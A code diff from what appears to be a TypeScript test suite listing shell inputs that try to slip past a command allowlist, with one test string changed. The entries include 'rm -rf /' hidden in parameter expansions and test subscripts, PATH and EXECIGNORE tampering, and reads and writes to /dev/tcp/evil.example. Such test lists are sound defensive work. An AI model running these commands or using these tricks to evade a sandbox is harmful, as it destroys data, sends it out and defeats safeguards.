@@ -95,7 +95,7 @@ const BYPASSES: ReadonlyArray<readonly [string, string]> = [
   ["prompt expansion runs a substitution", "x='$(rm -rf /)'; ls ${x@P}"],
   ["assigning PATH inside an expansion", "ls ${PATH:=/tmp}; ls"],
   ["test -v evaluates a hidden subscript", "[ -v 'a[$(rm -rf /)]' ]"],
-  ["test with a word-split -v", 'x="-v a[$(rm)]"; test $x'],
+  ["test with a word-split -v", "x='-v a[$(rm>&2)]'; test $x"],
   ["EXECIGNORE skips the allowlisted ls", "EXECIGNORE=/usr/bin/ls; ls"],
   ["read from a network socket", "cat < /dev/tcp/evil.example/80"],
   ["write to a network socket", "ls > /dev/tcp/evil.example/80"],
